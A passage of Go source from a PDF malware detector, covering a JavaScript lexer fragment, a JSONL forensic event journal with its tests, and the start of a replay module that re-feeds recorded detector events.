			if idx < 0 {
				l.pos = len(l.src)
				return
			}
			l.pos += 2 + idx + 2
		default:
			return
		}
	}
}

func (l *lexerShim) lexString(quote byte) (string, bool) {
	l.pos++
	var sb strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch c {
		case quote:
			l.pos++
			return sb.String(), true
		case '\\':
			if l.pos+1 >= len(l.src) {
				return "", false
			}
			e := l.src[l.pos+1]
			switch e {
			case 'n':
				sb.WriteByte('\n')
			case 'r':
				sb.WriteByte('\r')
			case 't':
				sb.WriteByte('\t')
			case 'u':
				if v, ok := parseHexEscape(l.src, l.pos+2, 4); ok {
					sb.WriteRune(rune(v))
					l.pos += 6
					continue
				}
				return "", false
			case 'x':
				if v, ok := parseHexEscape(l.src, l.pos+2, 2); ok {
					sb.WriteRune(rune(v))
					l.pos += 4
					continue
				}
				return "", false
			default:
				sb.WriteByte(e)
			}
			l.pos += 2
		case '\n':
			return "", false
		default:
			sb.WriteByte(c)
			l.pos++
		}
	}
	return "", false
}

func parseHexEscape(s string, at, n int) (int, bool) {
	if at+n > len(s) {
		return 0, false
	}
	v := 0
	for i := 0; i < n; i++ {
		c := s[at+i]
		var d int
		switch {
		case c >= '0' && c <= '9':
			d = int(c - '0')
		case c >= 'a' && c <= 'f':
			d = int(c-'a') + 10
		case c >= 'A' && c <= 'F':
			d = int(c-'A') + 10
		default:
			return 0, false
		}
		v = v*16 + d
	}
	return v, true
}

func isIdentStartByte(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentPartByte(c byte) bool {
	return isIdentStartByte(c) || (c >= '0' && c <= '9')
}
