// Package journal is the system's forensic event log: an append-only,
// JSONL-encoded record of every runtime-significant event — Javascript
// context transitions, hooked API calls with the confinement decision
// returned, feature triggers F6–F13, fake-message detections, confinement
// actions and alerts with their per-feature malscore breakdown. Where the
// metrics registry (internal/obs) answers "how many" and traces answer
// "how long", the journal answers "what exactly happened, in what order" —
// the CWSandbox-style behaviour log security analysts treat as the primary
// artifact once an alert has fired.
//
// The journal is also the system's golden regression harness: every event
// the runtime detector consumes (context notifications, hook events,
// per-document state retirement) is recorded verbatim, so Replay can
// re-feed the stream through a fresh detector state machine and reproduce
// the identical feature vectors, malscores and alert ordering offline
// (see replay.go and `pdfshield-detect -replay`).
//
// Writes are lock-cheap (one buffered writer behind a single mutex) and
// fail-open: a sink error never blocks or fails detection — it is counted
// into the obs registry and reported via Writer.Err, and the writer keeps
// accepting (and dropping) events.
package journal

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"sync"
	"time"

	"pdfshield/internal/obs"
)

// Event types. Detector-origin events (ctx, fake-message, hook, feature,
// confine, alert, forget) are emitted while the detector's state lock is
// held, so their journal order IS the state-machine order — the property
// replay determinism rests on. Pipeline-origin events (session-start,
// doc-open, verdict) interleave without that lock and are forensic
// context only.
const (
	// TypeSessionStart is the writer's header record (session id, start
	// time); always the journal's first event.
	TypeSessionStart = "session-start"
	// TypeCtx is a validated Javascript-context transition (enter/exit)
	// delivered by soapsrv.Notify.
	TypeCtx = "ctx"
	// TypeFakeMessage is a context notification that failed protection-key
	// validation (mimicry / fake message, §III-D zero tolerance). Carries
	// the raw notify payload so replay re-feeds it verbatim.
	TypeFakeMessage = "fake-message"
	// TypeHook is one captured API call with the confinement decision the
	// detector returned. Feature events triggered by the call precede it
	// in the journal (the decision is only known once handling completes).
	TypeHook = "hook"
	// TypeFeature is the first trigger of one runtime feature (F6–F13) on
	// a document, with the operation string that tripped it.
	TypeFeature = "feature"
	// TypeConfine is one confinement action of Table III (drop blocked,
	// process sandboxed/blocked, injection rejected, artifact isolated,
	// sandboxed process terminated).
	TypeConfine = "confine"
	// TypeAlert is a raised alert with the per-feature malscore breakdown.
	TypeAlert = "alert"
	// TypeForget is the retirement of a document's volatile runtime state
	// (malscore dies with the reader process, §III-E). Replayed, so that
	// out-of-JS attribution sees the same set of live documents.
	TypeForget = "forget"
	// TypeTriage is the static triage tier's routing decision for a
	// document, with the score/feature breakdown behind it. Pipeline-
	// origin and non-canonical by design: a triage-routed document never
	// produces detector events, so replay determinism is preserved — the
	// canonical detector stream is empty either way, and the verdict
	// consistency of routed documents is checked separately
	// (`pdfshield-detect -replay`).
	TypeTriage = "triage"
	// TypeDeepScan is the forced-execution deep-scan summary for one
	// document open: how many paths were explored, how many died on a
	// recovered crash, and whether a budget cut exploration short.
	// Pipeline-origin and non-canonical like TypeTriage: the detector
	// events the forced paths produced are the replayable record; this
	// event explains where they came from.
	TypeDeepScan = "deepscan"
	// TypeDocOpen marks a document entering the pipeline.
	TypeDocOpen = "doc-open"
	// TypeVerdict is the pipeline's final per-document outcome.
	TypeVerdict = "verdict"
)

// Ctx is the payload of TypeCtx and TypeFakeMessage events: the notify as
// received on the wire, replayable verbatim.
type Ctx struct {
	// Event is "enter" or "exit" (soapsrv.EventEnter/EventExit).
	Event string `json:"event"`
	// WireKey is the full "DetectorID:InstrKey" protection key as claimed
	// by the sender (for fake messages it may be garbage).
	WireKey string `json:"wire_key"`
	// Seq is the sender-assigned per-document notification sequence.
	Seq int `json:"seq"`
	// MemMB is the process-memory sample the detector associated with the
	// transition (forensic; replay reconstructs it from hook events).
	MemMB float64 `json:"mem_mb,omitempty"`
}

// Hook is the payload of TypeHook events: the captured call plus the
// decision returned to the hook DLL.
type Hook struct {
	API   string   `json:"api"`
	Args  []string `json:"args,omitempty"`
	MemMB float64  `json:"mem_mb"`
	Seq   int64    `json:"hook_seq,omitempty"`
	// Behavior is the Table II classification of the API.
	Behavior string `json:"behavior"`
	// Action and Note are the confinement decision (Table III).
	Action string `json:"action"`
	Note   string `json:"note,omitempty"`
}

// Feature is the payload of TypeFeature events.
type Feature struct {
	// Index is the 0-based feature index (detect.FOutJSProc..FDLLInject).
	Index int `json:"index"`
	// Name is the canonical feature name ("F11:injs-malware-drop").
	Name string `json:"name"`
	// Op is the recorded suspicious-operation string.
	Op string `json:"op"`
}

// Confinement actions recorded in TypeConfine events.
const (
	ConfineDropBlocked       = "drop-blocked"
	ConfineProcessBlocked    = "process-blocked"
	ConfineSandboxed         = "sandboxed"
	ConfineTerminated        = "terminated"
	ConfineInjectionRejected = "injection-rejected"
	ConfineIsolated          = "isolated"
)

// Confine is the payload of TypeConfine events.
type Confine struct {
	// Action is one of the Confine* constants.
	Action string `json:"action"`
	// Target is the affected path (dropped file, executable, DLL).
	Target string `json:"target,omitempty"`
	// PID is the sandboxed/terminated process, when the action has one.
	PID int `json:"pid,omitempty"`
}

// Alert is the payload of TypeAlert events.
type Alert struct {
	Malscore int `json:"malscore"`
	// Features is the positive feature-name list at alert time.
	Features []string `json:"features"`
	// Breakdown maps each positive feature to its weighted malscore
	// contribution (w1 for F1–F7, w2 for F8–F13).
	Breakdown map[string]int `json:"breakdown,omitempty"`
	// Reason is "malscore" or "fake-message".
	Reason string `json:"reason"`
	// Cause is the validation error text for fake-message alerts.
	Cause string `json:"cause,omitempty"`
	// Isolated and Terminated record confinement results (volatile across
	// replay: quarantine needs the live file system, pids are allocator-
	// dependent — excluded from the canonical comparison form).
	Isolated   []string `json:"isolated,omitempty"`
	Terminated []int    `json:"terminated,omitempty"`
}

// Triage is the payload of TypeTriage events: the route plus the full
// evidence breakdown (suspicion score, abstract-interpretation signals,
// fail-safe markers, census summary). Slices arrive sorted from the
// triage stage, so the payload serializes deterministically.
type Triage struct {
	// Route is "benign", "malicious" or "uncertain".
	Route string `json:"route"`
	// Score is the abstract interpreter's suspicion score.
	Score int `json:"score"`
	// Signals are the suspicious constructs proved reachable.
	Signals []string `json:"signals,omitempty"`
	// Uncertain are the fail-safe conditions that forced (or would have
	// forced) the dynamic path.
	Uncertain []string `json:"uncertain,omitempty"`
	// Static is the F1–F5 vector the census saw.
	Static []int `json:"static,omitempty"`
	// Scripts is how many extracted scripts were analyzed.
	Scripts int `json:"scripts"`
}

// DeepScan is the payload of TypeDeepScan events: per-open forced-
// execution accounting.
type DeepScan struct {
	// Paths is the total explored path count (natural paths included).
	Paths int `json:"paths"`
	// CrashedPaths counts forced paths abandoned on a recovered crash.
	CrashedPaths int `json:"crashed_paths,omitempty"`
	// BudgetExhausted counts scripts whose exploration hit a path, step,
	// or decision budget.
	BudgetExhausted int `json:"budget_exhausted,omitempty"`
}

// Verdict is the payload of TypeVerdict events.
type Verdict struct {
	Malicious    bool   `json:"malicious"`
	NoJavaScript bool   `json:"no_javascript,omitempty"`
	Crashed      bool   `json:"crashed,omitempty"`
	Err          string `json:"err,omitempty"`
	Malscore     int    `json:"malscore,omitempty"`
	// Features is the final 13-feature vector (present for every
	// instrumented document, benign or not).
	Features []int `json:"features,omitempty"`
}

// Event is one journal record. Exactly one payload pointer is set,
// matching T; the correlation fields (DocID, Key, PID) identify which
// document/process the event belongs to where known.
type Event struct {
	// Seq is the writer-assigned monotonically increasing sequence number
	// (starts at 1; the total order of the journal).
	Seq uint64 `json:"seq"`
	// T is the event type (Type* constants).
	T string `json:"t"`
	// TimeNS is the wall-clock timestamp in Unix nanoseconds (forensic;
	// excluded from the canonical comparison form).
	TimeNS int64 `json:"time_ns,omitempty"`
	// Session is the recording session id (only on session-start).
	Session string `json:"session,omitempty"`
	// DocID is the document the event is attributed to.
	DocID string `json:"doc,omitempty"`
	// Key is the document's instrumentation key.
	Key string `json:"key,omitempty"`
	// PID is the reader process involved.
	PID int `json:"pid,omitempty"`
	// Cause carries error text (fake-message validation failure).
	Cause string `json:"cause,omitempty"`

	Ctx      *Ctx      `json:"ctx,omitempty"`
	Hook     *Hook     `json:"hook,omitempty"`
	Feature  *Feature  `json:"feature,omitempty"`
	Confine  *Confine  `json:"confine,omitempty"`
	Alert    *Alert    `json:"alert,omitempty"`
	Triage   *Triage   `json:"triage,omitempty"`
	DeepScan *DeepScan `json:"deepscan,omitempty"`
	Verdict  *Verdict  `json:"verdict,omitempty"`
}

// Options configures a Writer.
type Options struct {
	// Session names the recording (default: "pdfshield"). Stamped on the
	// session-start header event.
	Session string
	// Obs receives the journal's own health counters
	// (obs.MetricJournalEvents / obs.MetricJournalErrors); nil-safe.
	Obs *obs.Registry
	// FlushEach flushes the buffered writer after every event. Costs a
	// syscall per event but makes the journal durable line-by-line (the
	// stand-alone detector CLI records this way).
	FlushEach bool
	// RecentEvents sizes the in-memory ring of the latest events kept for
	// live diagnostics (the stall watchdog attaches a wedged document's
	// recent journal context to its report via Recent). 0 means
	// DefaultRecentEvents; negative disables the ring.
	RecentEvents int
}

// DefaultRecentEvents is the default Recent ring size.
const DefaultRecentEvents = 512

// Writer appends events to a JSONL sink. All methods are safe for
// concurrent use and nil-safe, so optional journaling wires through the
// detector and pipeline without guards. Writes are fail-open: encoding or
// sink errors are counted and remembered, never surfaced to the append
// path — journaling must not be able to change a verdict.
type Writer struct {
	mu      sync.Mutex
	buf     *bufio.Writer
	sink    io.Writer
	seq     uint64
	dropped uint64
	err     error
	opts    Options
	closed  bool

	// recent is the fixed-size diagnostics ring (see Options.RecentEvents
	// and Recent); recNext is its insertion index.
	recent  []Event
	recNext int
	recFull bool
}

// NewWriter starts a journal on w and writes the session-start header.
func NewWriter(w io.Writer, opts Options) *Writer {
	if opts.Session == "" {
		opts.Session = "pdfshield"
	}
	if opts.RecentEvents == 0 {
		opts.RecentEvents = DefaultRecentEvents
	}
	jw := &Writer{buf: bufio.NewWriterSize(w, 64<<10), sink: w, opts: opts}
	if opts.RecentEvents > 0 {
		jw.recent = make([]Event, opts.RecentEvents)
	}
	// Preregister the health counters so a scrape (and the metric-drift
	// lint) sees the series before the first append resolves them.
	opts.Obs.CounterAdd(obs.MetricJournalEvents, 0)
	opts.Obs.CounterAdd(obs.MetricJournalErrors, 0)
	jw.Append(Event{T: TypeSessionStart, Session: opts.Session})
	return jw
}

// Create opens (truncating) a journal file. The caller owns Close.
func Create(path string, opts Options) (*Writer, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, fmt.Errorf("journal: create: %w", err)
	}
	return NewWriter(f, opts), nil
}

// Append records one event, assigning its sequence number and timestamp.
// Nil-safe and fail-open: errors are counted (see Err) and the event is
// dropped, but Append never blocks detection or returns a failure.
func (w *Writer) Append(e Event) {
	if w == nil {
		return
	}
	w.mu.Lock()
	w.seq++
	e.Seq = w.seq
	if e.TimeNS == 0 {
		e.TimeNS = time.Now().UnixNano()
	}
	if len(w.recent) > 0 {
		// The diagnostics ring keeps the event even when the sink write
		// below fails — fail-open means the in-memory context survives a
		// broken disk.
		w.recent[w.recNext] = e
		w.recNext++
		if w.recNext == len(w.recent) {
			w.recNext = 0
			w.recFull = true
		}
	}
	err := w.writeLocked(e)
	if err != nil {
		w.dropped++
		if w.err == nil {
			w.err = err
		}
	}
	w.mu.Unlock()
	if err != nil {
		w.opts.Obs.Inc(obs.MetricJournalErrors)
	} else {
		w.opts.Obs.Inc(obs.MetricJournalEvents)
	}
}

func (w *Writer) writeLocked(e Event) error {
	if w.closed {
		return fmt.Errorf("journal: writer closed")
	}
	data, err := json.Marshal(e)
	if err != nil {
		return fmt.Errorf("journal: encode: %w", err)
	}
	if _, err := w.buf.Write(data); err != nil {
		return err
	}
	if err := w.buf.WriteByte('\n'); err != nil {
		return err
	}
	if w.opts.FlushEach {
		return w.buf.Flush()
	}
	return nil
}

// Flush drains the buffer to the sink.
func (w *Writer) Flush() error {
	if w == nil {
		return nil
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.closed {
		return w.err
	}
	if err := w.buf.Flush(); err != nil {
		if w.err == nil {
			w.err = err
		}
		return err
	}
	return nil
}

// Sync flushes and, when the sink supports it (an *os.File), fsyncs.
func (w *Writer) Sync() error {
	if w == nil {
		return nil
	}
	if err := w.Flush(); err != nil {
		return err
	}
	type syncer interface{ Sync() error }
	w.mu.Lock()
	defer w.mu.Unlock()
	if s, ok := w.sink.(syncer); ok {
		return s.Sync()
	}
	return nil
}

// Close flushes and closes the sink when it is a closer. Further appends
// are dropped (and counted).
func (w *Writer) Close() error {
	if w == nil {
		return nil
	}
	flushErr := w.Flush()
	w.mu.Lock()
	w.closed = true
	w.mu.Unlock()
	if c, ok := w.sink.(io.Closer); ok {
		if err := c.Close(); err != nil {
			return err
		}
	}
	return flushErr
}

// Session returns the recording's session name ("" on a nil writer) —
// the correlation id callers hand out so an external consumer can match
// a verdict back to this journal's events.
func (w *Writer) Session() string {
	if w == nil {
		return ""
	}
	return w.opts.Session
}

// Recent returns the latest retained events for one document (docID ""
// matches every event), newest-first, up to max (<= 0 = no bound). It
// reads the in-memory diagnostics ring, never the sink, so it is cheap
// enough for a watchdog to call while the system is wedged. Nil-safe.
func (w *Writer) Recent(docID string, max int) []Event {
	if w == nil {
		return nil
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	n := w.recNext
	if w.recFull {
		n = len(w.recent)
	}
	var out []Event
	for i := 0; i < n; i++ {
		idx := w.recNext - 1 - i
		if idx < 0 {
			idx += len(w.recent)
		}
		e := w.recent[idx]
		if docID != "" && e.DocID != docID {
			continue
		}
		out = append(out, e)
		if max > 0 && len(out) == max {
			break
		}
	}
	return out
}

// Err returns the first write error encountered ("" contract of fail-open:
// detection never saw it, but forensics should know the record is partial).
func (w *Writer) Err() error {
	if w == nil {
		return nil
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.err
}

// Dropped returns how many events were lost to sink errors.
func (w *Writer) Dropped() uint64 {
	if w == nil {
		return 0
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.dropped
}

// Events returns how many events were appended successfully.
func (w *Writer) Events() uint64 {
	if w == nil {
		return 0
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.seq - w.dropped
}

// maxLineBytes bounds one journal line on read (hostile or corrupt inputs
// must not balloon memory; a legitimate event is a few hundred bytes).
const maxLineBytes = 4 << 20

// Read decodes a JSONL journal stream. Blank lines are skipped; a
// malformed line fails with its line number. Sequence numbers must be
// strictly increasing (the append-only contract).
func Read(r io.Reader) ([]Event, error) {
	var out []Event
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64<<10), maxLineBytes)
	line := 0
	var lastSeq uint64
	for sc.Scan() {
		line++
		raw := bytes.TrimSpace(sc.Bytes())
		if len(raw) == 0 {
			continue
		}
		var e Event
		if err := json.Unmarshal(raw, &e); err != nil {
			return nil, fmt.Errorf("journal: line %d: %w", line, err)
		}
		if e.Seq <= lastSeq {
			return nil, fmt.Errorf("journal: line %d: sequence %d not after %d (journal reordered or truncated-and-appended)", line, e.Seq, lastSeq)
		}
		lastSeq = e.Seq
		out = append(out, e)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("journal: read: %w", err)
	}
	return out, nil
}

// ReadFile reads a journal file.
func ReadFile(path string) ([]Event, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("journal: open: %w", err)
	}
	defer func() { _ = f.Close() }()
	return Read(f)
}
