package journal

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"pdfshield/internal/obs"
)

func TestRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, Options{Session: "test"})
	w.Append(Event{T: TypeCtx, DocID: "d1", Key: "k1", PID: 7,
		Ctx: &Ctx{Event: "enter", WireKey: "det:k1", Seq: 1, MemMB: 12.5}})
	w.Append(Event{T: TypeHook, PID: 7,
		Hook: &Hook{API: "Collab.getIcon", Args: []string{"x"}, MemMB: 30, Behavior: "suspicious", Action: "allow"}})
	w.Append(Event{T: TypeFeature, DocID: "d1", Key: "k1",
		Feature: &Feature{Index: 8, Name: "F9:injs-suspicious", Op: "Collab.getIcon"}})
	w.Append(Event{T: TypeAlert, DocID: "d1", Key: "k1",
		Alert: &Alert{Malscore: 6, Features: []string{"F9:injs-suspicious"}, Reason: "malscore"}})
	w.Append(Event{T: TypeForget, Key: "k1"})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	events, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != 6 { // session-start header + 5 appends
		t.Fatalf("got %d events, want 6", len(events))
	}
	if events[0].T != TypeSessionStart || events[0].Session != "test" {
		t.Errorf("header = %+v", events[0])
	}
	for i, e := range events {
		if e.Seq != uint64(i+1) {
			t.Errorf("event %d has seq %d", i, e.Seq)
		}
		if e.TimeNS == 0 {
			t.Errorf("event %d missing timestamp", i)
		}
	}
	if c := events[1].Ctx; c == nil || c.Event != "enter" || c.WireKey != "det:k1" || c.MemMB != 12.5 {
		t.Errorf("ctx payload = %+v", events[1].Ctx)
	}
	if h := events[2].Hook; h == nil || h.API != "Collab.getIcon" || h.Action != "allow" {
		t.Errorf("hook payload = %+v", events[2].Hook)
	}
	if a := events[4].Alert; a == nil || a.Malscore != 6 || a.Reason != "malscore" {
		t.Errorf("alert payload = %+v", events[4].Alert)
	}
	if got := w.Events(); got != 6 {
		t.Errorf("Events() = %d, want 6", got)
	}
}

func TestCreateAndReadFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.jsonl")
	w, err := Create(path, Options{Session: "file-test", FlushEach: true})
	if err != nil {
		t.Fatal(err)
	}
	w.Append(Event{T: TypeDocOpen, DocID: "doc.pdf", Cause: "123 bytes"})
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	events, err := ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != 2 || events[1].DocID != "doc.pdf" {
		t.Fatalf("events = %+v", events)
	}
	// Appends after Close are dropped and counted, never written.
	w.Append(Event{T: TypeDocOpen, DocID: "late.pdf"})
	if w.Dropped() != 1 {
		t.Errorf("Dropped() = %d after post-close append", w.Dropped())
	}
	again, err := ReadFile(path)
	if err != nil || len(again) != 2 {
		t.Fatalf("journal grew after Close: %d events, err=%v", len(again), err)
	}
}

func TestReadRejectsReordering(t *testing.T) {
	in := `{"seq":1,"t":"session-start"}` + "\n" + `{"seq":3,"t":"ctx"}` + "\n" + `{"seq":2,"t":"hook"}` + "\n"
	if _, err := Read(strings.NewReader(in)); err == nil {
		t.Fatal("reordered sequence accepted")
	}
}

func TestReadSkipsBlankAndFailsOnGarbage(t *testing.T) {
	in := "\n" + `{"seq":1,"t":"session-start"}` + "\n\n" + `{"seq":2,"t":"ctx"}` + "\n"
	events, err := Read(strings.NewReader(in))
	if err != nil || len(events) != 2 {
		t.Fatalf("events=%d err=%v", len(events), err)
	}
	if _, err := Read(strings.NewReader("not json\n")); err == nil {
		t.Fatal("garbage line accepted")
	}
}

func TestReadBoundsLineLength(t *testing.T) {
	huge := fmt.Sprintf(`{"seq":1,"t":"ctx","doc":%q}`, strings.Repeat("A", maxLineBytes))
	if _, err := Read(strings.NewReader(huge + "\n")); err == nil {
		t.Fatal("oversized line accepted")
	}
}

// failWriter errors on every write, like a journal on a full disk.
type failWriter struct{ writes int }

func (f *failWriter) Write(p []byte) (int, error) {
	f.writes++
	return 0, errors.New("disk full")
}

func TestFailOpenOnSinkError(t *testing.T) {
	reg := obs.NewRegistry()
	fw := &failWriter{}
	// FlushEach surfaces the sink error on every append, the worst case.
	w := NewWriter(fw, Options{Obs: reg, FlushEach: true})
	for i := 0; i < 5; i++ {
		w.Append(Event{T: TypeCtx, Ctx: &Ctx{Event: "enter"}}) // must not panic or block
	}
	if err := w.Err(); err == nil {
		t.Fatal("Err() = nil after sink failures")
	}
	if w.Dropped() == 0 {
		t.Error("Dropped() = 0 after sink failures")
	}
	snap := reg.Snapshot()
	if snap.Counters[obs.MetricJournalErrors] == 0 {
		t.Errorf("journal error counter not incremented: %v", snap.Counters)
	}
}

func TestNilWriterIsSafe(t *testing.T) {
	var w *Writer
	w.Append(Event{T: TypeCtx})
	if err := w.Flush(); err != nil {
		t.Error(err)
	}
	if err := w.Close(); err != nil {
		t.Error(err)
	}
	if w.Err() != nil || w.Dropped() != 0 || w.Events() != 0 {
		t.Error("nil writer reported state")
	}
}

func TestCanonAndDiff(t *testing.T) {
	rec := []Event{
		{T: TypeSessionStart, Session: "live"}, // no canonical form
		{T: TypeCtx, DocID: "d", Key: "k", PID: 3, Ctx: &Ctx{Event: "enter", Seq: 1}},
		{T: TypeHook, PID: 3, Hook: &Hook{API: "util.printf", MemMB: 1, Behavior: "suspicious", Action: "allow"}},
		{T: TypeAlert, DocID: "d", Key: "k", Alert: &Alert{Malscore: 6, Reason: "malscore", Features: []string{"F9"}}},
		{T: TypeVerdict, DocID: "d", Verdict: &Verdict{Malicious: true}}, // recording-only
	}
	rep := []Event{
		{T: TypeSessionStart, Session: "replay"},
		{T: TypeCtx, DocID: "d", Key: "k", PID: 3, Ctx: &Ctx{Event: "enter", Seq: 1}},
		{T: TypeHook, PID: 3, Hook: &Hook{API: "util.printf", MemMB: 1, Behavior: "suspicious", Action: "allow"}},
		{T: TypeAlert, DocID: "d", Key: "k", Alert: &Alert{Malscore: 6, Reason: "malscore", Features: []string{"F9"}}},
	}
	if diffs := Diff(rec, rep); diffs != nil {
		t.Fatalf("identical canonical streams diffed: %v", diffs)
	}

	rep[3].Alert.Malscore = 4
	diffs := Diff(rec, rep)
	if len(diffs) != 1 || !strings.Contains(diffs[0], "alert|d|k|6") || !strings.Contains(diffs[0], "alert|d|k|4") {
		t.Fatalf("diffs = %v", diffs)
	}

	short := rep[:2]
	if diffs := Diff(rec, short); len(diffs) == 0 {
		t.Fatal("missing events not reported")
	}

	// Volatile fields stay out of the canonical form.
	a := Event{T: TypeAlert, DocID: "d", Alert: &Alert{
		Malscore: 6, Reason: "malscore", Features: []string{"F9"},
		Isolated: []string{"/dropped/a.exe"}, Terminated: []int{42},
	}}
	b := Event{T: TypeAlert, DocID: "d", Alert: &Alert{
		Malscore: 6, Reason: "malscore", Features: []string{"F9"},
	}}
	if a.Canon() != b.Canon() {
		t.Errorf("volatile confinement results leaked into canon:\n%s\n%s", a.Canon(), b.Canon())
	}
}

// TestFileSyncAndPermissions exercises the fsync path against a real file.
func TestFileSync(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sync.jsonl")
	w, err := Create(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	w.Append(Event{T: TypeDocOpen, DocID: "x"})
	if err := w.Sync(); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(raw, []byte(`"doc-open"`)) {
		t.Errorf("sync did not persist buffered events: %q", raw)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestRecentRing covers the in-memory diagnostics ring behind
// Writer.Recent: newest-first ordering, per-document filtering, the max
// bound, overwrite-oldest wraparound, and retention even when the sink
// fails (the ring is the stall watchdog's context source, and a wedged
// disk is exactly when it is needed).
func TestRecentRing(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, Options{Session: "ring", RecentEvents: 4})
	// NewWriter appends the session-start event; it occupies one slot.
	w.Append(Event{T: TypeDocOpen, DocID: "a"})
	w.Append(Event{T: TypeDocOpen, DocID: "b"})
	w.Append(Event{T: TypeCtx, DocID: "a", Ctx: &Ctx{Event: "enter"}})

	all := w.Recent("", 0)
	if len(all) != 4 {
		t.Fatalf("Recent(all) = %d events, want 4 (ring at capacity)", len(all))
	}
	if all[0].T != TypeCtx || all[0].DocID != "a" {
		t.Errorf("Recent not newest-first: first = %+v", all[0])
	}

	forA := w.Recent("a", 0)
	if len(forA) != 2 {
		t.Fatalf("Recent(a) = %d events, want 2", len(forA))
	}
	if forA[0].T != TypeCtx || forA[1].T != TypeDocOpen {
		t.Errorf("Recent(a) ordering wrong: %+v", forA)
	}
	if got := w.Recent("a", 1); len(got) != 1 || got[0].T != TypeCtx {
		t.Errorf("Recent(a, 1) = %+v, want just the newest", got)
	}

	// Wraparound: two more events must evict the two oldest (the
	// session-start marker and doc-open a).
	w.Append(Event{T: TypeDocOpen, DocID: "c"})
	w.Append(Event{T: TypeDocOpen, DocID: "d"})
	if got := w.Recent("", 0); len(got) != 4 || got[0].DocID != "d" {
		t.Fatalf("ring after wraparound: %+v", got)
	}
	for _, e := range w.Recent("", 0) {
		if e.T == TypeSessionStart {
			t.Errorf("oldest event survived wraparound: %+v", e)
		}
	}
	if got := w.Recent("a", 0); len(got) != 1 || got[0].T != TypeCtx {
		t.Errorf("doc a should retain only its ctx event: %+v", got)
	}

	// Sink failure keeps the ring: fail-open means in-memory context
	// survives a dead disk.
	fw := NewWriter(&failWriter{}, Options{Session: "dead", FlushEach: true, RecentEvents: 8})
	fw.Append(Event{T: TypeDocOpen, DocID: "x"})
	if got := fw.Recent("x", 0); len(got) != 1 {
		t.Errorf("ring lost events on sink failure: %d", len(got))
	}

	// Disabled ring and nil writer.
	off := NewWriter(&bytes.Buffer{}, Options{RecentEvents: -1})
	off.Append(Event{T: TypeDocOpen, DocID: "x"})
	if got := off.Recent("", 0); len(got) != 0 {
		t.Errorf("RecentEvents<0 still retained %d events", len(got))
	}
	var nw *Writer
	if nw.Recent("", 0) != nil {
		t.Error("nil writer returned events")
	}
}
