// Replay: re-feed a recorded journal through a fresh detector state
// machine. Every event the detector consumed live (context notifications,
// hook events, per-document state retirement) was journaled while the
// detector's state lock was held, so the journal's sequence order is the
// exact order the state machine observed — feeding the same stream
// serially into a fresh detector reproduces the identical feature
// vectors, malscores and alert ordering, offline.
package journal

import (
	"fmt"
	"strconv"
	"strings"

	"pdfshield/internal/hook"
	"pdfshield/internal/soapsrv"
)

// Sink is the consumer side of a replay: the runtime detector's direct
// feeding surface (detect.Detector implements it; the live SOAP and hook
// servers deliver to the same methods).
type Sink interface {
	// Notify processes one context notification. Errors are expected for
	// fake-message events (zero tolerance produces a SOAP fault live).
	Notify(n soapsrv.Notify, remote string) error
	// Event processes one hooked API call and returns the confinement
	// decision.
	Event(ev hook.Event) hook.Decision
	// ForgetDoc retires a document's volatile runtime state.
	ForgetDoc(instrKey string)
}

// ReplayStats summarizes one replay pass.
type ReplayStats struct {
	// Notifies, Hooks and Forgets count re-fed detector inputs.
	Notifies, Hooks, Forgets int
	// Skipped counts journal events that are outputs, not inputs (feature,
	// alert, confine, verdict, ...) — recorded for forensics, reproduced by
	// the sink, never fed.
	Skipped int
}

// Replay feeds a recorded event stream through sink in journal order.
// Only detector inputs are re-fed: ctx transitions (valid and fake), hook
// events, and forget records. Everything else in the journal is detector
// output and is skipped — a sink wired to its own journal Writer re-emits
// it, which is exactly what Diff checks.
func Replay(events []Event, sink Sink) ReplayStats {
	var st ReplayStats
	for _, e := range events {
		switch e.T {
		case TypeCtx, TypeFakeMessage:
			if e.Ctx == nil {
				st.Skipped++
				continue
			}
			// Fake messages fail validation again by construction; the
			// error is the detector's fault reply, not a replay failure.
			_ = sink.Notify(soapsrv.Notify{
				Event: e.Ctx.Event,
				Key:   e.Ctx.WireKey,
				Seq:   e.Ctx.Seq,
				PID:   e.PID,
			}, "replay")
			st.Notifies++
		case TypeHook:
			if e.Hook == nil {
				st.Skipped++
				continue
			}
			_ = sink.Event(hook.Event{
				PID:   e.PID,
				API:   e.Hook.API,
				Args:  e.Hook.Args,
				MemMB: e.Hook.MemMB,
				Seq:   e.Hook.Seq,
			})
			st.Hooks++
		case TypeForget:
			sink.ForgetDoc(e.Key)
			st.Forgets++
		default:
			st.Skipped++
		}
	}
	return st
}

// Canon renders the event's canonical comparison form: the deterministic
// content a replay must reproduce byte-for-byte. Volatile fields are
// excluded — timestamps, writer sequence numbers, sandbox pids (allocator-
// dependent), quarantine results (need the live file system) and decision
// notes (may embed pids). An empty string means the event has no
// canonical form and is skipped by Diff: pipeline-origin events (doc-open,
// verdict, session-start) only exist on the recording side, and confine
// events record file-system/process side effects replay cannot repeat.
